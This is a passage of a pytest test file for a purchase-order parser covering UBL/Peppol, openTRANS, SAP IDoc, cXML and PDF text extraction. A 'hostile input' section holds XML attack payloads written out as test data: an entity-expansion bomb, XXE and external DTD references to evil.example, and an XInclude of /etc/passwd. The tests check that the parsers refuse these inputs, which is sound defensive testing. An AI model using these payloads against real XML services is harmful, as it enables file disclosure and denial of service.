        (lambda: _idoc_change(), "idoc"),
    ],
)
def test_detect_order_format(data, kind):
    assert orders.detect_order_format(data()) == kind


def test_detect_by_content_not_by_name():
    # An IDoc with an extension type as root is recognised by its control record.
    extended = IDOC_ORDERS05.replace(b"ORDERS05>", b"ZORDERS05EXT>")
    assert orders.detect_order_format(extended) == "idoc"
    # openTRANS wrapped in OPENTRANS, and openTRANS without its namespace.
    wrapped = OPENTRANS_ORDER.replace(
        b"<ORDER ", b'<OPENTRANS xmlns="http://www.opentrans.org/XMLSchema/2.1"><ORDER ', 1
    ).replace(b"</ORDER>", b"</ORDER></OPENTRANS>")
    assert orders.detect_order_format(wrapped) == "opentrans"
    assert orders.parse_order(wrapped).order_id == "BE-2024-00815"
    bare = b"<ORDER><ORDER_HEADER/></ORDER>"
    assert orders.detect_order_format(bare) == "opentrans"


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(lambda: (UBL_DIR / "UBL-Invoice-2.1-Example.xml").read_bytes(), id="invoice"),
        pytest.param(lambda: b"<Order><ID>1</ID></Order>", id="order-without-ubl-namespace"),
        pytest.param(
            lambda: (
                PEPPOL_ORDER.replace(b"xsd:Order-2", b"xsd:OrderChange-2")
                .replace(b"<Order ", b"<OrderChange ")
                .replace(b"</Order>", b"</OrderChange>")
            ),
            id="ubl-order-change",
        ),
        pytest.param(
            lambda: IDOC_ORDERS05.replace(b"ORDERS05", b"DESADV01").replace(
                b"<MESTYP>ORDERS</MESTYP>", b"<MESTYP>DESADV</MESTYP>"
            ),
            id="idoc-desadv",
        ),
        pytest.param(lambda: b"<html><body>Purchase order</body></html>", id="html"),
        pytest.param(
            lambda: OPENTRANS_ORDER.replace(b"<ORDER ", b"<INVOICE ").replace(
                b"</ORDER>", b"</INVOICE>"
            ),
            id="opentrans-invoice",
        ),
    ],
)
def test_detect_other_documents_is_none_and_parse_is_450(data):
    document = data()
    assert orders.detect_order_format(document) is None
    with pytest.raises(UnsupportedRequest) as info:
        orders.parse_order(document)
    assert info.value.status == 450
    root = etree.QName(etree.fromstring(document)).localname
    assert f"<{root}>" in info.value.message


def test_unsupported_message_names_root_and_namespace():
    invoice = (UBL_DIR / "UBL-Invoice-2.1-Example.xml").read_bytes()
    with pytest.raises(UnsupportedRequest) as info:
        orders.read_order(invoice)
    message = info.value.message
    assert (
        "<Invoice> (namespace urn:oasis:names:specification:ubl:schema:xsd:Invoice-2)" in message
    )
    assert "Peppol BIS Order 3" in message and "IDoc ORDERS05" in message


# --- hostile input, through the same parse_xml ---------------------------------------------------


HOSTILE = {
    "billion-laughs": lambda: _billion_laughs(),
    "internal-entity": lambda: (
        b'<!DOCTYPE Order [<!ENTITY n "4500012345">]>'
        + PEPPOL_ORDER.split(b"?>", 1)[1].replace(b"<cbc:ID>4500012347", b"<cbc:ID>&n;", 1)
    ),
    "xxe-ubl": lambda: _xxe(PEPPOL_ORDER, "Order"),
    "xxe-opentrans": lambda: _xxe(OPENTRANS_ORDER, "ORDER"),
    "xxe-idoc": lambda: _xxe(IDOC_ORDERS05, "ORDERS05"),
    "parameter-entity": lambda: (
        b'<!DOCTYPE ORDERS05 [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
        + IDOC_ORDERS05.split(b"?>", 1)[1]
    ),
    "external-dtd-entity-reference": lambda: (
        b'<!DOCTYPE ORDER SYSTEM "http://evil.example/a.dtd">'
        + OPENTRANS_ORDER.split(b"?>", 1)[1].replace(b"BE-2024-00815", b"&xxe;")
    ),
    "xinclude": lambda: IDOC_ORDERS05.replace(
        b"<ORDERS05>",
        b'<ORDERS05 xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="file:///etc/passwd" parse="text"/>',
    ),
}
PARSERS = {
    "detect": orders.detect_order_format,
    "parse_order": orders.parse_order,
    "ubl": orders.parse_ubl_order,
    "opentrans": orders.parse_opentrans_order,
    "idoc": orders.parse_idoc_orders05,
}


@pytest.mark.parametrize("parser", PARSERS.values(), ids=PARSERS.keys())
@pytest.mark.parametrize("document", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_documents_are_refused_by_every_reader(parser, document):
    start = time.monotonic()
    with pytest.raises(HostileDocument) as info:
        parser(document())
    assert info.value.status == 400
    assert "root:" not in info.value.message
    assert time.monotonic() - start < 2


@pytest.mark.parametrize("parser", PARSERS.values(), ids=PARSERS.keys())
def test_size_limit_applies_before_parsing(parser):
    with pytest.raises(PayloadTooLarge) as info:
        parser(IDOC_ORDERS05, max_bytes=1000)
    assert info.value.status == 413
    huge = b"<ORDERS05>" + b"<E1EDKT2/>" * 600_000 + b"</ORDERS05>"
    with pytest.raises(PayloadTooLarge):
        parser(huge)


@pytest.mark.parametrize("parser", PARSERS.values(), ids=PARSERS.keys())
@pytest.mark.parametrize("data", [b"", b"not xml", b"<Order><cbc:ID>1</Order>", None])
def test_malformed_input(parser, data):
    with pytest.raises(MalformedDocument) as info:
        parser(data)
    assert info.value.status == 400


# --- cXML: the HTTP endpoint's own parser ------------------------------------------------------


def test_cxml_order_request_is_read_by_the_endpoint_parser():
    data = (CXML_SAMPLES / "cxml-php_OrderRequest.xml").read_bytes()
    document = orders.read_order(data)
    assert document.format == "cxml"
    assert document.document_id == "1625586002.193314.7293@dev"
    assert document.order == cxml.parse_request(data).request
    order = document.order
    assert order.order_id == "DO1234"
    assert order.total == Money(Decimal("85.00"), "EUR")
    assert [(i.supplier_part_id, i.quantity) for i in order.items] == [
        ("1233244", Decimal("10")),
        ("1233245", Decimal("20")),
    ]


def test_cxml_other_requests_are_not_orders():
    setup = (CXML_SAMPLES / "cxml-php_PunchOutSetupRequest.xml").read_bytes()
    with pytest.raises(UnsupportedRequest) as info:
        orders.parse_order(setup)
    assert "PunchOutSetupRequest" in info.value.message
    cart = (CXML_SAMPLES / "cxml-php_PunchoutOrderMessage.xml").read_bytes()
    with pytest.raises(UnsupportedRequest):
        orders.parse_order(cart)
    with pytest.raises(MalformedDocument, match=r"UBL 2\.1 Order"):
        orders.parse_ubl_order(setup)


# --- UBL: the OASIS example --------------------------------------------------------------------


def test_oasis_example_is_valid_ubl(ubl_schema):
    assert ubl_schema.validate(etree.parse(str(OASIS_ORDER))), ubl_schema.error_log


def test_oasis_example_order():
    document = orders.read_order(OASIS_ORDER.read_bytes())
    assert (document.format, document.document_id) == ("ubl", "")
    order = document.order
    assert order.order_id == "34"
    assert order.order_date == datetime(2010, 1, 20, 12, 30)
    assert order.order_type == "new"
    assert order.total == Money(Decimal("6225"), "SEK")
    assert order.tax == Money(Decimal("100"), "SEK")
    assert order.comments == "Information text for the whole order"
    assert order.attachments == ["http://www.suppliersite.eu/sheet001.html"]
    assert order.extrinsics == {"AccountingCost": "Project123", "Contract": "34322"}
    assert order.bill_to == Address(
        name="Johnssons byggvaror",
        address_id="1234567890123",
        deliver_to=["Purchasing department"],
        street=["R\u00e5dhusgatan 5", "2nd floor"],
        city="Stockholm",
        state="RegionX",
        postal_code="11000",
        country_code="SE",
        email="pelle@johnsson.se",
        phone="123456",
    )
    ship_to = order.ship_to
    assert (ship_to.name, ship_to.address_id) == ("Swedish trucking", "1234567890123")
    assert (ship_to.street, ship_to.city, ship_to.postal_code) == (
        ["R\u00e5dhusgatan 5", "2nd floor"],
        "Stockholm",
        "11000",
    )
    assert (ship_to.email, ship_to.phone) == ("bill@svetruck.se", "987098709")
    assert order.contacts == [
        Contact(name="Pelle X Svensson", email="pelle@johnsson.se", phone="123456", role="buyer"),
        Contact(name="Sven N Pereson", email="sven@moderna.se", phone="346788", role="endUser"),
    ]


def test_oasis_example_lines():
    first, second = orders.parse_ubl_order(OASIS_ORDER.read_bytes()).items
    assert first.line_number == 1
    assert (first.quantity, first.unit_of_measure) == (Decimal("120"), "LTR")
    assert first.unit_price == Money(Decimal("50"), "SEK")
    assert first.supplier_part_id == "SItemNo001"
    assert (first.description, first.short_name) == ("Red paint", "Falu R\u00f6df\u00e4rg")
    assert first.requested_delivery_date == datetime(2010, 2, 25)
    assert first.comments == "Freetext note on line 1"
    # The example's quotation reference is taken as the buyer wrote it.
    assert first.supplier_part_auxiliary_id == "QuoteID123"
    assert second.line_number == 2
    assert (second.quantity, second.unit_of_measure) == (Decimal("15"), "C62")
    assert second.unit_price == Money(Decimal("15"), "SEK")
    assert (second.supplier_part_id, second.short_name) == ("SItemNo011", "Pensel 20 mm")
    assert second.description == "Very good pencils for red paint."


# --- UBL: a Peppol BIS Order 3 -----------------------------------------------------------------


def test_peppol_document_is_valid_ubl(ubl_schema):
    document = etree.fromstring(PEPPOL_ORDER)
    assert ubl_schema.validate(document), ubl_schema.error_log
    ns = {"cbc": "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2"}
    assert document.findtext("cbc:CustomizationID", namespaces=ns) == (
        "urn:fdc:peppol.eu:poacc:trns:order:3"
    )
    assert document.findtext("cbc:ProfileID", namespaces=ns) == (
        "urn:fdc:peppol.eu:poacc:bis:ordering:3"
    )


def test_peppol_order_header():
    order = orders.parse_order(PEPPOL_ORDER)
    assert order.order_id == "4500012347"
    assert order.order_date == datetime(2024, 3, 12, 9, 41, tzinfo=PLUS_1)
    assert order.total == Money(Decimal("1585.44"), "EUR")
    assert order.tax == Money(Decimal("253.14"), "EUR")
    assert order.comments == "Bitte Lieferschein mit Bestellnummer beilegen."
    assert order.extrinsics == {
        "CustomerReference": "Weber, Einkauf 001",
        "AccountingCost": "4711-100-2000",
        "Contract": "RV-2023-117",
    }
    # The invoicee (AccountingCustomerParty) is who gets the invoice.
    assert order.bill_to == Address(
        name="Nordwind Maschinenbau GmbH Kreditorenbuchhaltung",
        address_id="4012345000016",
        street=["Postfach 10 12 20"],
        city="Mannheim",
        postal_code="68012",
        country_code="DE",
        email="rechnungseingang@nordwind.example",
    )
    assert order.ship_to == Address(
        name="Nordwind Werk 1000",
        address_id="4012345000023",
        deliver_to=["Wareneingang Tor 3"],
        street=["Industriestr. 12", "Halle B", "Anlieferung Mo-Fr 7-15 Uhr"],
        city="Mannheim",
        postal_code="68169",
        country_code="DE",
        phone="+49 621 4500-300",
    )
    assert order.contacts == [
        Contact(
            name="Jana Weber",
            email="j.weber@nordwind.example",
            phone="+49 621 4500-210",
            role="buyer",
        )
    ]


def test_peppol_order_lines_and_references():
    chair, screws, cloths = orders.parse_ubl_order(PEPPOL_ORDER).items
    assert chair.line_number == 10
    assert (chair.quantity, chair.unit_of_measure) == (Decimal("10"), "C62")
    assert chair.unit_price == Money(Decimal("125.00"), "EUR")
    assert (chair.supplier_part_id, chair.buyer_part_id) == ("FURN-0006", "MAT-4711")
    assert chair.manufacturer_part_id == "OC-2000-BK"
    assert chair.description == "Office chair, black, synchronous mechanism"
    assert chair.short_name == "Office chair, black"
    assert chair.classifications == [("TST", "56112102")]
    assert chair.requested_delivery_date == datetime(2024, 3, 22)
    assert chair.supplier_part_auxiliary_id == "S00042/57"  # from the line note
    assert chair.comments == "Angebotsposition S00042/57"
    # Price per 100 pieces: 12.50 / 100.
    assert screws.unit_price == Money(Decimal("0.125"), "EUR")
    assert screws.quantity * screws.unit_price.amount == Decimal("62.5")
    assert screws.supplier_part_auxiliary_id == "S00042/58"  # item specification reference
    assert screws.description == screws.short_name == "Hexagon screw M8x40"
    # Header delivery period applies where a line has none.
    assert screws.requested_delivery_date == datetime(2024, 3, 28)
    # Non-numeric line id: its position; no price: from the line amount; header quotation.
    assert cloths.line_number == 3
    assert cloths.unit_price == Money(Decimal("9.90"), "EUR")
    assert (cloths.quantity, cloths.unit_of_measure) == (Decimal("2"), "KGM")
    assert cloths.supplier_part_auxiliary_id == "S00042"


def test_ubl_quotation_line_reference_and_seller_line_id(ubl_schema):
    line_reference = (
        b"</cac:LineItem><cac:QuotationLineReference><cbc:LineID>000123</cbc:LineID>"
        b"<cac:DocumentReference><cbc:ID>S00077</cbc:ID></cac:DocumentReference>"
        b"</cac:QuotationLineReference></cac:OrderLine>"
    )
    data = PEPPOL_ORDER.replace(b"</cac:LineItem>\n  </cac:OrderLine>", line_reference, 1)
    data = data.replace(
        b"<cbc:ID>20</cbc:ID>", b"<cbc:ID>20</cbc:ID><cbc:SalesOrderID>58</cbc:SalesOrderID>"
    ).replace(b"<cbc:ID>S00042/58</cbc:ID>", b"<cbc:ID>drawing-58.pdf</cbc:ID>")
    assert ubl_schema.validate(etree.fromstring(data)), ubl_schema.error_log
    chair, screws, _cloths = orders.parse_ubl_order(data).items
    assert chair.supplier_part_auxiliary_id == "S00077/123"
    assert screws.supplier_part_auxiliary_id == "S00042/58"


def test_ubl_header_references_prefer_ours():
    data = PEPPOL_ORDER.replace(b"<cbc:ID>S00042</cbc:ID>", b"<cbc:ID>ANG-2024-17</cbc:ID>")
    with_sales_order = data.replace(
        b"<cbc:ID>4500012347</cbc:ID>",
        b"<cbc:ID>4500012347</cbc:ID><cbc:SalesOrderID>S00099</cbc:SalesOrderID>",
    )
    assert orders.parse_order(with_sales_order).items[2].supplier_part_auxiliary_id == "S00099"
    assert orders.parse_order(data).items[2].supplier_part_auxiliary_id == "ANG-2024-17"
    # Another naming of our sale orders.
    custom = data.replace(b"S00042/57", b"SO-2024-0042 item 57")
    order = orders.parse_order(custom, quotation_pattern=r"SO-\d{4}-\d{4}")
    assert order.items[0].supplier_part_auxiliary_id == "SO-2024-0042/57"


def test_ubl_order_change_type_code_is_an_update():
    data = PEPPOL_ORDER.replace(b"<cbc:OrderTypeCode>220", b"<cbc:OrderTypeCode>230")
    order = orders.parse_order(data)
    assert order.order_type == "update"
    assert order.extrinsics["OrderTypeCode"] == "230"


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (b"<cbc:ID>4500012347</cbc:ID>", b"", "no cbc:ID"),
        (b'<cbc:Quantity unitCode="C62">500</cbc:Quantity>', b"", "Order line 20 has no quantity"),
        (
            b'<cbc:Quantity unitCode="KGM">2</cbc:Quantity>',
            b'<cbc:Quantity unitCode="KGM"/>',
            "A-30",
        ),
        (b'<cbc:Quantity unitCode="C62">10<', b'<cbc:Quantity unitCode="C62">ten<', "ten"),
        (b"<cbc:IssueDate>2024-03-12<", b"<cbc:IssueDate>12.03.2024<", "ISO 8601"),
    ],
)
def test_ubl_missing_essentials(old, new, message):
    assert old in PEPPOL_ORDER
    with pytest.raises(MalformedDocument, match=message):
        orders.parse_ubl_order(PEPPOL_ORDER.replace(old, new, 1))


def test_ubl_without_lines():
    root = etree.fromstring(PEPPOL_ORDER)
    for line in root.findall(
        "{urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2}OrderLine"
    ):
        root.remove(line)
    with pytest.raises(MalformedDocument, match="4500012347 has no cac:OrderLine"):
        orders.parse_ubl_order(etree.tostring(root))


# --- openTRANS 2.1 ORDER -----------------------------------------------------------------------


def test_opentrans_order_header():
    document = orders.read_order(OPENTRANS_ORDER)
    assert document.format == "opentrans"
    order = document.order
    assert order.order_id == "BE-2024-00815"
    assert order.order_date == datetime(2024, 3, 13, 8, 14, 27, tzinfo=PLUS_1)
    assert order.total == Money(Decimal("764.70"), "EUR")
    assert order.comments == "Lieferung nur werktags bis 14 Uhr."
    assert order.bill_to == Address(
        name="Hansa Klinikum Bremen gGmbH",
        address_id="HKB-KREDITOREN",
        deliver_to=["Kreditorenbuchhaltung"],
        street=["Postfach 10 44 20"],
        city="Bremen",
        postal_code="28044",
        country_code="DE",
        email="rechnungen@hkb.example",
    )
    assert order.ship_to == Address(
        name="Hansa Klinikum Bremen gGmbH",
        address_id="4098765000017",
        deliver_to=["Zentrallager", "Warenannahme Rampe 2"],
        street=["Gewerbestr. 7"],
        city="Bremen",
        postal_code="28279",
        country_code="DE",
        phone="+49 421 5550-400",
    )
    assert order.contacts == [
        Contact(
            name="Maren Lindner",
            email="m.lindner@hkb.example",
            phone="+49 421 5550-123",
            role="buyer",
        )
    ]
    assert order.extrinsics == {}


def test_opentrans_order_lines():
    chair, paper, toner = orders.parse_opentrans_order(OPENTRANS_ORDER).items
    assert (chair.line_number, chair.quantity, chair.unit_of_measure) == (1, Decimal("4"), "C62")
    assert (chair.supplier_part_id, chair.buyer_part_id) == ("FURN-0006", "100-4711")
    assert chair.short_name == "Buerostuhl schwarz"
    assert chair.description == "Buerostuhl schwarz, Synchronmechanik"
    assert chair.unit_price == Money(Decimal("125.00"), "EUR")
    assert chair.requested_delivery_date == datetime(2024, 3, 27)
    assert chair.supplier_part_auxiliary_id == "S00044/71"  # item SOURCING_INFO
    # Price for 10 packs.
    assert paper.unit_price == Money(Decimal("4.25"), "EUR")
    assert (paper.quantity, paper.unit_of_measure) == (Decimal("20"), "PK")
    assert paper.supplier_part_auxiliary_id == "S00044/72"  # item REMARKS
    assert paper.comments == "Angebotsposition S00044/72"
    # Header delivery date (end of the period); price from the line amount; header quotation.
    assert paper.requested_delivery_date == datetime(2024, 4, 5)
    assert toner.unit_price == Money(Decimal("59.90"), "EUR")
    assert toner.supplier_part_auxiliary_id == "S00044"
    assert toner.description == "Toner schwarz"


def test_opentrans_parties_found_by_reference_first():
    pharmacy = (
        b"<PARTY>\n"
        b'          <bmecat:PARTY_ID type="iln">4098765000024</bmecat:PARTY_ID>\n'
        b"          <PARTY_ROLE>delivery</PARTY_ROLE>\n"
        b"          <ADDRESS><bmecat:NAME>Klinikapotheke</bmecat:NAME></ADDRESS>\n"
        b"        </PARTY>\n"
        b"        <PARTY>\n"
        b'          <bmecat:PARTY_ID type="iln">4098765000017'
    )
    data = OPENTRANS_ORDER.replace(
        b'<PARTY>\n          <bmecat:PARTY_ID type="iln">4098765000017', pharmacy
    )
    assert data.count(b"<PARTY_ROLE>delivery</PARTY_ROLE>") == 2
    ship_to = orders.parse_order(data).ship_to
    assert (ship_to.address_id, ship_to.deliver_to[0]) == ("4098765000017", "Zentrallager")
    unreferenced = data.replace(b'<DELIVERY_IDREF type="iln">4098765000017', b"<DELIVERY_IDREF>x")
    assert orders.parse_order(unreferenced).ship_to.name == "Klinikapotheke"


def test_opentrans_parties_found_by_role_without_references():
    data = OPENTRANS_ORDER.replace(
        b"<INVOICE_RECIPIENT_IDREF", b"<!-- <INVOICE_RECIPIENT_IDREF"
    ).replace(b"</SHIPMENT_PARTIES_REFERENCE>", b"</SHIPMENT_PARTIES_REFERENCE> -->")
    order = orders.parse_order(data)
    assert order.bill_to.address_id == "HKB-KREDITOREN"
    assert order.ship_to.deliver_to == ["Zentrallager", "Warenannahme Rampe 2"]
    # Without invoice recipient and delivery parties: the buyer is billed, no ship-to.
    buyer_only = data.replace(b"<PARTY_ROLE>invoice_recipient", b"<PARTY_ROLE>payer").replace(
        b"<PARTY_ROLE>delivery", b"<PARTY_ROLE>deliverer"
    )
    order = orders.parse_order(buyer_only)
    assert order.bill_to.address_id == "HKB-EK"
    assert order.bill_to.deliver_to == ["Zentraleinkauf"]
    assert order.bill_to.email == "einkauf@hkb.example"
    assert order.ship_to is None


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ([(b"<ORDER_ID>BE-2024-00815</ORDER_ID>", b"<ORDER_ID/>")], "no ORDER_ID"),
        ([(b"<QUANTITY>20</QUANTITY>", b"")], "ORDER_ITEM 2 has no quantity"),
        (
            [(b"<ORDER_HEADER>", b"<ORDER_HEAD>"), (b"</ORDER_HEADER>", b"</ORDER_HEAD>")],
            "no ORDER_HEADER/ORDER_INFO",
        ),
        ([(b"PRICE_AMOUNT>42.50<", b"PRICE_AMOUNT>zweiundvierzig<")], "zweiundvierzig"),
        ([(b"<ORDER_DATE>2024-03-13T", b"<ORDER_DATE>13.03.2024T")], "ISO 8601"),
    ],
)
def test_opentrans_missing_essentials(changes, message):
    data = OPENTRANS_ORDER
    for old, new in changes:
        assert old in data
        data = data.replace(old, new)
    with pytest.raises(MalformedDocument, match=message):
        orders.parse_opentrans_order(data)


def test_opentrans_without_items():
    start = OPENTRANS_ORDER.index(b"<ORDER_ITEM_LIST>") + len(b"<ORDER_ITEM_LIST>")
    end = OPENTRANS_ORDER.index(b"</ORDER_ITEM_LIST>")
    data = OPENTRANS_ORDER[:start] + OPENTRANS_ORDER[end:]
    with pytest.raises(MalformedDocument, match="BE-2024-00815 has no ORDER_ITEM"):
        orders.parse_opentrans_order(data)


# --- SAP IDoc ORDERS05 -------------------------------------------------------------------------


def test_idoc_header():
    document = orders.read_order(IDOC_ORDERS05)
    assert (document.format, document.document_id) == ("idoc", "0000000000712345")
    order = document.order
    assert order.order_id == "4500012348"
    assert order.order_type == "new"
    assert order.order_date == datetime(2024, 3, 12)
    assert order.total == Money(Decimal("1332.30"), "EUR")
    assert order.comments == (
        "Bitte Bestellnummer auf allen Lieferpapieren angeben.\nAnlieferung Mo-Fr 7-15 Uhr."
    )
    assert order.extrinsics == {
        "Company code": "1000",
        "Purchase order type": "NB",
        "Purchasing organization": "1000",
        "Purchasing group": "001",
    }
    assert order.bill_to == Address(
        name="Nordwind Maschinenbau GmbH",
        address_id="1000",
        street=["Industriestr. 12"],
        city="Mannheim",
        postal_code="68169",
        country_code="DE",
        phone="+49 621 4500-210",
    )
    assert order.ship_to == Address(
        name="Nordwind Maschinenbau GmbH",
        address_id="1000",
        deliver_to=["Werk 1000 / Wareneingang Tor 3"],
        street=["Industriestr. 12"],
        city="Mannheim",
        postal_code="68169",
        country_code="DE",
    )
    assert order.contacts == [Contact(name="Jana Weber", phone="+49 621 4500-210", role="buyer")]


def test_idoc_items():
    chair, screws, cloths = orders.parse_idoc_orders05(IDOC_ORDERS05).items
    assert chair.line_number == 10
    assert (chair.quantity, chair.unit_of_measure) == (Decimal("10"), "C62")  # PCE
    assert chair.unit_price == Money(Decimal("125.00"), "EUR")
    assert (chair.supplier_part_id, chair.buyer_part_id) == ("FURN-0006", "MAT-4711")
    assert chair.description == chair.short_name == "Buerostuhl schwarz"
    assert chair.comments == "Farbe schwarz, Armlehnen verstellbar"
    assert chair.requested_delivery_date == datetime(2024, 3, 28)
    # E1EDP02 004: quotation and its item (SAP pads item numbers with zeros).
    assert chair.supplier_part_auxiliary_id == "S00045/61"
    # Price per 100 (PEINH), SAP's internal unit ST.
    assert screws.unit_price == Money(Decimal("0.125"), "EUR")
    assert (screws.quantity, screws.unit_of_measure) == (Decimal("500"), "C62")
    assert screws.requested_delivery_date == datetime(2024, 3, 22, 12, 0)
    assert screws.supplier_part_auxiliary_id == "S00045/62"  # from the item text
    assert screws.buyer_part_id == ""
    # No VPREI: net value / quantity; header quotation.
    assert cloths.unit_price == Money(Decimal("9.90"), "EUR")
    assert (cloths.quantity, cloths.unit_of_measure) == (Decimal("2"), "KGM")
    assert cloths.supplier_part_auxiliary_id == "S00045"
    assert cloths.requested_delivery_date is None


def test_idoc_order_change():
    order = orders.parse_idoc_orders05(_idoc_change())
    assert order.order_type == "update"
    assert [item.line_number for item in order.items] == [10, 20, 30]  # 40 is deleted
    assert order.items[1].quantity == Decimal("400")


def test_idoc_namespaced_negative_and_fallbacks():
    data = (
        IDOC_ORDERS05.replace(
            b"<ORDERS05>", b'<ORDERS05 xmlns="urn:sap-com:document:sap:idoc:messages">'
        )
        .replace(b"<BELNR>4500012348</BELNR>\n", b"\n", 1)
        .replace(b"<IDDAT>012</IDDAT>", b"<IDDAT>099</IDDAT>")
        .replace(b"<NETWR>19.80</NETWR>", b"<NETWR>19.80-</NETWR>")
        .replace(b"<PARVW>LF</PARVW>", b"<PARVW>RE</PARVW>")
    )
    order = orders.parse_order(data)
    assert order.order_id == "4500012348"  # from E1EDK02 001
    assert order.order_date == datetime(2024, 3, 12)  # E1EDK02 001 DATUM
    assert order.items[2].unit_price.amount == Decimal("-9.90")
    assert order.bill_to.name == "Office Supplies Online GmbH"  # the RE partner
    assert order.bill_to.address_id == "100234"


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (b"<BELNR>4500012348</BELNR>", b"", "no purchase order number"),
        (b"<MENGE>500.000</MENGE>", b"", "00020 has no quantity"),
        (b"<EDATU>20240328</EDATU>", b"<EDATU>20241328</EDATU>", "20241328"),
        (b"<VPREI>125.00</VPREI>", b"<VPREI>abc</VPREI>", "abc"),
    ],
)
def test_idoc_missing_essentials(old, new, message):
    data = IDOC_ORDERS05.replace(old, new)
    with pytest.raises(MalformedDocument, match=message):
        orders.parse_idoc_orders05(data)


def test_idoc_without_items_or_with_several_idocs():
    only_deleted = IDOC_ORDERS05.replace(b"<ACTION>001</ACTION>", b"<ACTION>003</ACTION>")
    with pytest.raises(MalformedDocument, match="4500012348 has no E1EDP01"):
        orders.parse_idoc_orders05(only_deleted)
    idoc = IDOC_ORDERS05[IDOC_ORDERS05.index(b"<IDOC") : IDOC_ORDERS05.index(b"</ORDERS05>")]
    two = IDOC_ORDERS05.replace(b"</ORDERS05>", idoc + b"</ORDERS05>")
    with pytest.raises(MalformedDocument, match="2 IDocs"):
        orders.parse_idoc_orders05(two)


@pytest.mark.parametrize(
    ("sap", "unece"),
    [
        ("ST", "C62"),
        ("PCE", "C62"),
        ("pc", "C62"),
        ("Stk.", "C62"),
        ("KG", "KGM"),
        ("M", "MTR"),
        ("L", "LTR"),
        ("M2", "MTK"),
        ("H", "HUR"),
        ("C62", "C62"),
        ("EA", "EA"),
        ("PAK", "PAK"),
        (" KGM ", "KGM"),
        ("", ""),
        (None, ""),
    ],
)
def test_unit_to_unece(sap, unece):
    assert orders.unit_to_unece(sap) == unece


# --- PDF text ----------------------------------------------------------------------------------


def test_pdf_sap_english_two_pages():
    found = orders.find_pdf_references(PDF_TEXT_EN)
    assert found.po_number == "4500012345"
    assert found.order_date == datetime(2024, 3, 28)
    assert found.currency == "EUR"
    assert found.total == Money(Decimal("1574.50"), "EUR")
    assert found.quotation_refs == ["S00042"]
    assert found.line_refs == ["S00042/57", "S00042/58"]
    chair, screws, lamp = found.lines
    assert (chair.line_number, chair.supplier_part_id, chair.description) == (
        10,
        "FURN-0006",
        "Office chair, black",
    )
    assert (chair.quantity, chair.unit_of_measure) == (Decimal("10"), "C62")
    assert chair.unit_price == Money(Decimal("125.00"), "EUR")
    assert chair.supplier_part_auxiliary_id == "S00042/57"
    # MM/DD/YYYY, known from the document's unambiguous dates.
    assert chair.requested_delivery_date == datetime(2024, 4, 2)
    # "Your material number" is ours; the material column is the buyer's.
    assert (screws.supplier_part_id, screws.buyer_part_id) == ("SCR-M8-40", "4711-0815")
    assert screws.quantity == Decimal("1000")
    assert screws.unit_price == Money(Decimal("0.125"), "EUR")
    assert screws.supplier_part_auxiliary_id == "S00042/58"
    # Figures on their own line, on page 2; the only quotation of the document.
    assert (lamp.line_number, lamp.description, lamp.supplier_part_id) == (30, "Desk lamp LED", "")
    assert (lamp.quantity, lamp.unit_price) == (Decimal("5"), Money(Decimal("39.90"), "EUR"))
    assert lamp.requested_delivery_date == datetime(2024, 4, 12)
    assert lamp.supplier_part_auxiliary_id == "S00042"
    order = found.to_order_request()
    assert isinstance(order, OrderRequest)
    assert (order.order_id, len(order.items), order.total) == ("4500012345", 3, found.total)


def test_pdf_sap_german_letter_spaced_heading():
    found = orders.find_pdf_references(PDF_TEXT_DE)
    assert found.po_number == "4500012346"
    assert found.order_date == datetime(2024, 3, 12)
    assert found.currency == "EUR"
    assert found.total == Money(Decimal("210.00"), "EUR")
    assert found.quotation_refs == ["S00043"]
    assert found.line_refs == ["S00043/61", "S00043/62"]
    screws, paper = found.lines
    # 1.000 ST is a thousand; 12,50 per 100 ST.
    assert (screws.quantity, screws.unit_of_measure) == (Decimal("1000"), "C62")
    assert screws.unit_price == Money(Decimal("0.125"), "EUR")
    assert (screws.supplier_part_id, screws.buyer_part_id) == ("SCR-M8-40", "R-1100")
    assert screws.description == "Sechskantschraube M8x40"
    assert screws.requested_delivery_date == datetime(2024, 3, 28)
    assert screws.supplier_part_auxiliary_id == "S00043/61"
    assert (paper.line_number, paper.supplier_part_id) == (20, "")
    assert paper.description == "Kopierpapier A4, 80 g"
    assert (paper.quantity, paper.unit_of_measure) == (Decimal("20"), "PAK")
    assert paper.unit_price == Money(Decimal("4.25"), "EUR")
    assert paper.supplier_part_auxiliary_id == "S00043/62"


@pytest.mark.parametrize(
    ("text", "po_number"),
    [
        ("Purchase Order 4500012345 dated 12.03.2024", "4500012345"),
        ("PURCHASE ORDER NO.: 4500012345", "4500012345"),
        ("Purchase Order Number\n4500012345", "4500012345"),
        ("PO number: PO-2024-0815", "PO-2024-0815"),
        ("P.O. # 778812", "778812"),
        ("Bestellung 4500012345 vom 12.03.2024", "4500012345"),
        ("Bestell-Nr.: 4500012345", "4500012345"),
        ("Bestell-\nnummer 4500012345", "4500012345"),
        ("Bestellnr. 4711/2024", "4711/2024"),
        ("Unsere Bestellnummer:\n4500012345/12.03.2024", "4500012345"),
        ("P u r c h a s e   O r d e r   4 5 0 0 0 1 2 3 4 5", "4500012345"),
        ("Purchase\u00a0order\u00a0no.\u00a04500012345", "4500012345"),
        # No label, but a single SAP-like number that is no phone number.
        ("Reference 4500012345\nTel. +49 621 4500 0", "4500012345"),
        # Ambiguous: dates, phone and fax numbers, numbers behind other labels.
        ("Purchase Order\nDate: 12.03.2024\nDelivery date 28.03.2024", ""),
        ("Purchase Order 12.03.2024", ""),
        ("Purchase order\nPhone: +49 621 4500012345\nFax 0621/4500012399", ""),
        ("Bestellung\nTelefon 0621 4500012345\nKundennummer 4500099999", ""),
        ("PO Box 123456, 68169 Mannheim", ""),
        ("Our sales order number S00042", ""),
        ("Sales order number 778812", ""),
        ("Your order no. 778812\nPO number: 990011", "990011"),
        ("Two SAP-like numbers 4500012345 and 4500054321", ""),
        ("", ""),
    ],
)
def test_pdf_po_number_defaults(text, po_number):
    assert orders.find_pdf_references(text).po_number == po_number


def test_pdf_po_number_prefers_sap_like_numbers_near_labels():
    text = (
